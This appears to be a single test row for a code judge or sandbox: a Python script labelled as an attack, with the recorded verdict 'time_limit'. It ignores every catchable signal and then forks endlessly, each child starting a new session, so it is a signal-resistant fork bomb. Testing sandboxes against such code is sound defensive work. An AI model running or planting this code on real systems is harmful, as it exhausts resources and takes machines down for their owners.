# row: I2
# attack: the same in new sessions and deaf to every signal
# problem: split
# verdict: time_limit
import os, signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
